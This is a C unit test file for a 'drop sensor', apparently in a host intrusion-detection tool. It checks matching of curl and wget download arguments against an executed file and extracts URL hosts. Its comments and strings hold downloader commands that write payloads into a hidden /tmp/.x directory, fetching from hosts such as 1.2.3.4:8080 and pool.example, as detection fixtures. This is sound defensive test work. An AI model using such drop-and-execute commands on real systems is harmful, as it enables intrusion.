/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * test_drop.c - the drop's matching (sensors/drop_sensor.c): which
 * downloader arguments name the program that was run, and the peer of a
 * downloader's URL.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "sensors/drop.h"

static void test_names_file(void **state)
{
	static const char *exe = "/tmp/.x/app";

	(void)state;
	/* curl -o /tmp/.x/app URL */
	assert_true(drop__names_file("/tmp/.x/app", "/root", exe));
	/* cd /tmp && curl -o .x/app URL; wget -O ./.x/app URL */
	assert_true(drop__names_file(".x/app", "/tmp", exe));
	assert_true(drop__names_file("./.x/app", "/tmp", exe));
	/* cd /tmp/.x && wget http://h/p/app; curl -O http://h/app */
	assert_true(
	    drop__names_file("http://1.2.3.4:8080/p/app", "/tmp/.x", exe));
	/* the same URL fetched elsewhere did not write it */
	assert_false(drop__names_file("http://1.2.3.4/p/app", "/root", exe));
	assert_false(drop__names_file("http://1.2.3.4/p/app2", "/tmp/.x", exe));
	assert_false(drop__names_file("app", "/tmp", exe));
	assert_false(drop__names_file("-s", "/tmp/.x", exe));
	assert_false(drop__names_file("/tmp/.x/app", "/", "relative"));
}

static void test_url_peer(void **state)
{
	char out[64];

	(void)state;
	drop__url_peer("curl -s -o x http://127.0.0.1:8931/app", out,
		       sizeof(out));
	assert_string_equal(out, "127.0.0.1:8931");
	drop__url_peer("wget https://pool.example/x?y=1", out, sizeof(out));
	assert_string_equal(out, "pool.example");
	drop__url_peer("curl -o x", out, sizeof(out));
	assert_string_equal(out, "");
	drop__url_peer("python3 -c 'u=\"http://h.example\"'", out, sizeof(out));
	assert_string_equal(out, "h.example");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_names_file),
	    cmocka_unit_test(test_url_peer),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
